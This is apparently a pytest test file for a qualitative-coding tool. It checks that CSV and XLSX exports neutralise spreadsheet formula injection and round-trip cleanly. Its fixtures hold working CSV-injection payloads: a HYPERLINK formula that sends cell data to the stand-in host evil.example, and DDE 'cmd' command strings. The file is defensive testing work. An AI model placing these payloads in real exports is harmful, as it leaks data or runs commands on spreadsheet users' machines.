"""Spreadsheet (CSV/XLSX) injection: text from transcripts or code names never becomes a
live formula in an export, and is neutralised with a leading ' as OWASP recommends
(issue 11, rows 2 and 3); ``--raw`` turns the prefix off for machine consumers."""

from __future__ import annotations

import csv
import zipfile

import pytest

from qualcode.project import init_project
from qualcode.runs import RunRecorder
from qualcode.types import Coding, ParsedDocument, SegmentSpan

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1 behind a tab", "\r=1+1 behind a CR"]
SAFE = ["an ordinary answer", "'already quoted", "a = b + c in the middle"]
CODE = "=cmd|' /C calc'!A0"


@pytest.fixture
def project(tmp_path):
    p = init_project(tmp_path / "proj")
    lines = PAYLOADS + SAFE
    text = "\n".join(lines)
    doc_id, _ = p.store.add_document(ParsedDocument(text=text, format="txt"), name="=evil.txt", source_path=None)
    doc = p.store.document(doc_id)
    spans, pos = [], 0
    for i, line in enumerate(lines):
        spans.append(SegmentSpan(index=i, start=pos, end=pos + len(line)))
        pos += len(line) + 1
    p.store.add_segmentation(doc, "line", {}, spans)
    rec = RunRecorder(p.store, "code", params={"test": True})
    rec.finish(codings=[Coding(code=CODE if i % 2 else "plain", segment_id=s.id, document_id=s.document_id,
                               start=s.start, end=s.end, score=0.9, coder=rec.coder, run_id=rec.id)
                        for i, s in enumerate(p.store.segments())])
    yield p
    p.close()


def _csv_cells(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _xlsx_cells(path):
    from openpyxl import load_workbook

    wb = load_workbook(path)  # not data_only: formulas would show as formulas
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    wb.close()
    return cells


def _assert_neutral(cells):
    texts = [c for c in cells if isinstance(c, str)]
    for p in PAYLOADS:
        assert "'" + p in texts, f"{p!r} not neutralised"
    assert not [c for c in texts if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for s in SAFE:
        assert s in texts  # ordinary text untouched (a leading ' that was there stays as it is)


def _exports(project, out, raw=False):
    from qualcode.report.tables import export_codings, export_segments
    from qualcode.report.wide import export_codings_wide

    files = []
    for ext in ("csv", "xlsx"):
        export_segments(project.store, out / f"segments.{ext}", raw=raw)
        export_codings(project.store, out / f"codings.{ext}", raw=raw)
        export_codings_wide(project.store, out / f"wide.{ext}", raw=raw)
        files += [out / f"segments.{ext}", out / f"codings.{ext}", out / f"wide.{ext}"]
    return files


def test_csv_exports_neutralise_formula_text(project, tmp_path):
    for f in _exports(project, tmp_path):
        if f.suffix == ".csv":
            cells = _csv_cells(f)
            _assert_neutral(cells)
            assert "'=evil.txt" in cells
            if "codings" in f.name or "wide" in f.name:
                assert "'" + CODE in cells  # code names (wide: the column header) too


def test_xlsx_exports_have_no_formula_cells(project, tmp_path):
    for f in _exports(project, tmp_path):
        if f.suffix != ".xlsx":
            continue
        with zipfile.ZipFile(f) as zf:
            sheets = [zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in s or b"<f " in s for s in sheets), f"{f.name} holds a formula"
        cells = _xlsx_cells(f)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
        _assert_neutral([c.value for c in cells])
        assert any(isinstance(c.value, (int, float)) and c.data_type == "n" for c in cells)  # numbers stay numbers


def test_raw_writes_text_exactly_but_still_no_formulas(project, tmp_path):
    for f in _exports(project, tmp_path, raw=True):
        if f.suffix == ".csv":
            cells = _csv_cells(f)
        else:
            xc = _xlsx_cells(f)
            assert not [c.coordinate for c in xc if c.data_type == "f"]
            cells = [c.value for c in xc]
        for p in PAYLOADS:
            assert p in cells, (f.name, p)


def test_cli_raw_flag(project, tmp_path, capsys):
    from qualcode.cli.main import main

    p = str(project.path)
    project.close()
    assert main(["export", "segments", "-p", p, "--out", str(tmp_path / "s.csv")]) == 0
    assert main(["export", "segments", "-p", p, "--out", str(tmp_path / "r.csv"), "--raw"]) == 0
    assert main(["export", "codings-wide", "-p", p, "--out", str(tmp_path / "w.csv"), "--raw"]) == 0
    assert "'" + PAYLOADS[0] in _csv_cells(tmp_path / "s.csv")
    assert PAYLOADS[0] in _csv_cells(tmp_path / "r.csv") and CODE in _csv_cells(tmp_path / "w.csv")


def test_review_sample_sheet_is_neutralised_and_reads_back_exactly(project, tmp_path):
    from qualcode.reliability.sample import draw_sample
    from qualcode.reliability.sheet import read_sheet

    s = draw_sample(project, n=20, out=tmp_path / "sheet.xlsx")
    xlsx, csvp = tmp_path / "sheet.xlsx", tmp_path / "sheet.csv"
    xc = _xlsx_cells(xlsx)
    assert not [c.coordinate for c in xc if c.data_type == "f"]
    _assert_neutral([c.value for c in xc])
    _assert_neutral(_csv_cells(csvp))
    # read back: the prefix is removed again, so the sheet's text is the stored text
    for path in (xlsx, csvp):
        rows = [r for _, r in read_sheet(path)]
        assert {r["text"] for r in rows} == {r["text"] for r in s.rows}
        assert CODE in {r["ai_code"] for r in rows}


def test_codebook_csv_round_trip_keeps_names(tmp_path):
    from qualcode.codebook import load_codebook
    from qualcode.report.codebook_export import codebook_to_csv
    from qualcode.types import Code, Codebook

    cb = Codebook(name="cb", codes=(Code(name="-negative", definition="=starts with equals"),
                                   Code(name="plain", definition="@mention")))
    text = codebook_to_csv(cb)
    assert "'-negative" in text and "'=starts with equals" in text
    (tmp_path / "cb.csv").write_text(text, encoding="utf-8")
    back = load_codebook(tmp_path / "cb.csv")
    assert [c.name for c in back.codes] == ["-negative", "plain"]
    assert back.codes[0].definition == "=starts with equals" and back.codes[1].definition == "@mention"


def test_csv_exports_read_back_by_qualcode_lose_the_prefix(project, tmp_path):
    """import-codes, agree and evaluate-themes read CSVs through one reader, which removes
    the neutralising ' again (a file exported by qualcode round-trips)."""
    from qualcode.reliability.units import read_csv_rows
    from qualcode.report.tables import export_codings

    export_codings(project.store, tmp_path / "c.csv")
    assert "'" + CODE in _csv_cells(tmp_path / "c.csv")  # neutralised in the file ...
    header, rows = read_csv_rows(tmp_path / "c.csv")  # ... and exact again when qualcode reads it
    texts = {cells[header.index("text")] for _, cells in rows}
    codes = {cells[header.index("code")] for _, cells in rows}
    assert set(PAYLOADS) <= texts and CODE in codes
